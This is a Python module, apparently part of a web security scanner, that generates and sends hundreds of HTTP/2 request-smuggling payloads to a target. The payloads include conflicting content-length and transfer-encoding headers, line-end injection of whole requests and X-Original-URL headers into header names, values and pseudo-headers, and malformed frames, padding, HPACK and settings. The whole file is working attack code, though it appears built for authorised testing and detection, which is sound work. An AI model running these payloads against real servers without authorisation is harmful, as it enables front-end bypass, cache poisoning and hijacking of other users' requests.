"""Requests within requests, over HTTP/2.

A server that speaks HTTP/2 to clients and HTTP/1 to the site writes each request anew. What HTTP/2 can carry in a name, a
value or a length, HTTP/1 reads as line ends, as framing, or as another target.
"""

import struct
from collections.abc import Iterator
from functools import partial

from core import http1, http2
from core.attack import Attack, Outcome, Try
from core.http1 import Headers
from core.scene import NO_MARK, PATIENCE_SECONDS, TRY_HEADER, Scene
from core.target import Way
from core.wire import Connection, Exchange, answered


def tries(scene: Scene) -> Iterator[Try]:
    target = scene.target
    free = target.free_path or b"/"
    for way in (Way.H2, Way.H2C):
        scheme = b"https" if way is Way.H2 else b"http"
        needs = target.needs(way)
        for name, data in [*_requests(free, target.path, target.host, scheme), *_frames(free, target.path, target.host, scheme)]:
            mark = scene.mark()
            yield Try(f"{way.value} {name}", partial(send, scene, way, data.replace(NO_MARK, mark), mark), needs)


def _inner(path: bytes, host: bytes) -> bytes:
    return http1.request(b"GET", path, [(b"Host", host), (TRY_HEADER, NO_MARK)])


def _requests(free: bytes, path: bytes, host: bytes, scheme: bytes) -> Iterator[tuple[str, bytes]]:
    """Requests whose fields or lengths lie."""
    inner = _inner(path, host)
    usual = [(b":method", b"POST"), (b":scheme", scheme), (b":authority", host), (b":path", free)]
    body = b"0\r\n\r\n" + inner
    chunked = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"

    def request(fields: Headers, content: bytes | None = body, start: Headers = usual) -> bytes:
        sent = http2.headers([*start, *fields], end=content is None)
        return sent if content is None else sent + http2.frame(http2.DATA, http2.END_STREAM, 1, content)

    for length in (b"0", b"1", b"5", b"%d" % (len(body) + 50), b"-1", b"+5", b"x", b"", b"0, 5", b" 5", b"5 ", b"0x5"):
        yield f"content-length {length!r} with more data", request([(b"content-length", length)])
        yield f"content-length {length!r} without data", request([(b"content-length", length)], None)
        yield (
            f"content-length {length!r}, then another",
            request([(b"content-length", length), (b"content-length", b"%d" % len(body))]),
        )
    for name in (
        b"transfer-encoding",
        b"Transfer-Encoding",
        b"transfer-encoding ",
        b"transfer_encoding",
        b"transfer-encoding\0",
        b"te",
        b"upgrade",
    ):
        for value in (
            b"chunked",
            b"identity, chunked",
            b"chunked ",
            b"\tchunked",
            b"xchunked",
            b"trailers, chunked",
            b"h2c",
            b"websocket",
        ):
            yield f"{name!r}: {value!r}", request([(name, value)])
            yield f"{name!r}: {value!r} around it", request([(name, value)], chunked)
    get = [(b":method", b"GET"), *usual[1:]]
    yield "GET with a body", request([(b"content-length", b"%d" % len(inner))], inner, get)
    yield "GET with a body without a length", request([], inner, get)
    yield "HEAD with a body", request([], inner, [(b":method", b"HEAD"), *usual[1:]])
    yield "POST with a body", request([(b"content-length", b"%d" % len(inner))], inner)
    yield "POST with a body without a length", request([], inner)
    yield "expect", request([(b"expect", b"100-continue")], inner)
    for connection in (b"content-length", b"close", b"keep-alive", b"transfer-encoding", b"host", b"x-try", b"upgrade"):
        for name in (b"connection", b"proxy-connection", b"keep-alive"):
            yield f"{name!r}: {connection!r}", request([(name, connection), (b"content-length", b"%d" % len(inner))], inner)
    for end in (b"\r\n", b"\n", b"\r", b"\0", b"\x0b", b"\x0c", b"\r\n ", b"\xc4\x8d\xc4\x8a", b"\xe5\x98\x8d\xe5\x98\x8a"):
        for name, fields in _injected(inner, path, host, end):
            yield f"{name} by {end!r}", request(fields, None, get)
        for position, (pseudo, value) in enumerate(get):
            for injected in (value + end + b"x: y", value + b" HTTP/1.1" + end + b"Host: x" + end + end + inner, end + value,
                             value + b" HTTP/1.1" + end + b"X-Original-URL: " + path + end + b"x: "):  # fmt: skip
                start = [*get[:position], (pseudo, injected), *get[position + 1 :]]
                yield f"{pseudo!r} with {end!r} in it: {injected[:40]!r}", request([], None, start)


def _injected(inner: bytes, path: bytes, host: bytes, end: bytes) -> Iterator[tuple[str, Headers]]:
    """Line ends in names and values."""
    request = b"GET " + path + b" HTTP/1.1" + end + b"Host: " + host + end + b"X-Try: " + NO_MARK + end + b"x: "
    yield "a request in a value", [(b"x", b"y" + end + end + request)]
    yield "a request in a name", [(b"x: y" + end + end + request.replace(b": ", b":"), b"y")]
    yield "a header in a value", [(b"x", b"y" + end + b"X-Original-URL: " + path), (b"x-try", NO_MARK)]
    yield "a header in a name", [(b"x: y" + end + b"X-Original-URL", path), (b"x-try", NO_MARK)]
    yield (
        "framing in a value",
        [(b"x", b"y" + end + b"Content-Length: 0" + end + b"Transfer-Encoding: chunked" + end + end + inner)],
    )
    yield "a line end in the host", [(b"host", host + end + b"X-Original-URL: " + path), (b"x-try", NO_MARK)]
    yield "a line end in a cookie", [(b"cookie", b"a=b" + end + b"X-Original-URL: " + path), (b"x-try", NO_MARK)]
    yield "an end before a value", [(b"x", end + b"X-Original-URL: " + path), (b"x-try", NO_MARK)]
    yield "an end in the path", [(b":path", path + end), (b"x-try", NO_MARK)]


def _frames(free: bytes, path: bytes, host: bytes, scheme: bytes) -> Iterator[tuple[str, bytes]]:
    """Streams that break the rules of frames."""

    def fields(target: bytes, method: bytes = b"GET") -> Headers:
        return [(b":method", method), (b":scheme", scheme), (b":authority", host), (b":path", target), (b"x-try", NO_MARK)]

    block, priced = http2.block(fields(free)), http2.block(fields(path))
    both = http2.END_HEADERS | http2.END_STREAM
    end = http2.frame(http2.DATA, http2.END_STREAM, 1)
    head = http2.headers(fields(free, b"POST"), end=False)
    inner = _inner(path, host)
    reset = http2.frame(http2.RST_STREAM, 0, 1, struct.pack(">I", 8))
    yield "a second head on the stream", http2.headers(fields(free)) + http2.headers(fields(path))
    yield "a second head within the stream", head + http2.headers(fields(path))
    yield "trailers with pseudo-headers", head + http2.frame(http2.DATA, 0, 1, b"x") + http2.headers(fields(path))
    for name in (b"x-original-url", b"content-length", b"transfer-encoding", b"host", b"te", b":path", b"X-Up", b"connection"):
        for value in (path, b"chunked", b"%d" % len(inner)):
            trailers = http2.headers([(name, value), (b"x-try", NO_MARK)])
            yield f"the trailer {name!r}: {value!r}", head + http2.frame(http2.DATA, 0, 1, inner) + trailers
    yield "data behind the end", http2.headers(fields(free)) + http2.frame(http2.DATA, http2.END_STREAM, 1, inner)
    yield "data before the head", http2.frame(http2.DATA, 0, 1, inner) + http2.headers(fields(path))
    yield "data on stream 0", http2.frame(http2.DATA, http2.END_STREAM, 0, inner) + http2.headers(fields(free))
    yield "a head on stream 0", http2.frame(http2.HEADERS, both, 0, priced)
    yield "a head on stream 2", http2.frame(http2.HEADERS, both, 2, priced)
    yield "stream 3, then stream 1", http2.headers(fields(free), 3) + http2.headers(fields(path), 1)
    yield "a head and a reset", http2.headers(fields(free)) + reset + http2.headers(fields(path), 3)
    yield "a reset of what is not there", reset + http2.headers(fields(path), 3)
    for cut in range(1, len(block), 16):
        whole = http2.frame(http2.HEADERS, http2.END_STREAM, 1, block[:cut])
        yield f"a head continued with another at {cut}", whole + http2.frame(http2.CONTINUATION, http2.END_HEADERS, 1, priced)
        yield (
            f"a head continued on another stream at {cut}",
            whole + http2.frame(http2.CONTINUATION, http2.END_HEADERS, 3, priced),
        )
        yield f"data within a head at {cut}", whole + end + http2.frame(http2.CONTINUATION, http2.END_HEADERS, 1, block[cut:])
    yield "a continuation alone", http2.frame(http2.CONTINUATION, both, 1, priced)
    for padding in (0, 1, 100, 255):
        padded = bytes([padding]) + priced
        yield f"padding {padding} that hides the end", http2.frame(http2.HEADERS, both | http2.PADDED, 1, padded)
        yield f"padding {padding}", http2.frame(http2.HEADERS, both | http2.PADDED, 1, padded + bytes(padding))
    for depends in (0, 1, 3, 0x80000001):
        yield f"a head that depends on {depends}", http2.frame(
            http2.HEADERS, both | http2.PRIORITY_FLAG, 1, struct.pack(">IB", depends, 255) + priced)  # fmt: skip
    yield "a promise from the client", http2.frame(http2.PUSH_PROMISE, http2.END_HEADERS, 1, struct.pack(">I", 2) + priced)
    yield "an empty head", http2.frame(http2.HEADERS, both, 1)
    for name, size in (
        ("a table of nothing", b"\x20"),
        ("a table too large", b"\x3f\xe1\xff\xff\x7f"),
        ("an index too high", b"\xff\xff\x7f"),
        ("index 0", b"\x80"),
    ):
        yield name, http2.frame(http2.HEADERS, both, 1, size + priced)
    for name, literal in (("never indexed", 0x10), ("indexed", 0x40)):
        yield (
            f"fields {name}",
            http2.frame(http2.HEADERS, both, 1, b"".join(bytes([literal]) + http2.block([field])[1:] for field in fields(path))),
        )
    for setting, value in (
        (1, 0),
        (2, 1),
        (2, 2),
        (3, 0),
        (4, 0x80000000),
        (5, 1),
        (5, 0xFFFFFFFF),
        (6, 0),
        (8, 1),
        (9, 1),
        (0xFFFF, 0),
    ):
        yield f"the setting {setting} = {value}", http2.settings({setting: value}) + http2.headers(fields(path))
    for kind in range(11, 14):
        yield f"a frame of kind {kind}", http2.frame(kind, 0, 1, b"x") + http2.headers(fields(path))
    yield (
        "extended CONNECT",
        http2.headers([(b":method", b"CONNECT"), (b":protocol", b"websocket"), *fields(path)[1:]], end=False),
    )


async def send(scene: Scene, way: Way, data: bytes, mark: bytes) -> Outcome:
    """Sends frames, and asks for harmless pages on further streams and over another connection."""
    target = scene.target
    door = target.door(way)
    assert door
    scheme = b"https" if door.tls else b"http"
    free = target.free_path or b"/"
    exchanges: list[Exchange] = []
    async with Connection(door, alpn="h2", patience=PATIENCE_SECONDS / 4) as connection:
        behind = http2.request(b"GET", free, target.host, scheme, [], stream=101)
        await connection.send(http2.start() + data + behind)
        exchanges.append(await connection.read(answered(2)))
    exchanges.append(await scene.ask(Way.HTTP11, free))
    return scene.judge(exchanges, mark)


ATTACK = Attack("smuggling-h2", 6, "requests hidden in requests of HTTP/2", tries, origins=frozenset({"plain", "framing"}))
